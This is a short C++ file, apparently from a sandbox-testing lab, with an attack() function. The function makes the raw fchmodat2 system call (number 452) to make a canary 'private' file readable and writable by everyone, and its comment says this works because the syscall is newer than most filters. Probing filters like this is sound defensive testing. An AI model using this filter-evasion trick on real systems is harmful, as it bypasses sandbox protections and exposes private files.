// Opens a private file to all by a system call that is newer than most filters.
#include "rest_of_the_lab.hpp"

#include <fcntl.h>

bool attack() {
  return ask_kernel(452 /* fchmodat2 */, AT_FDCWD, "CANARY_FOLDER/private", 0666, 0) == 0;
}
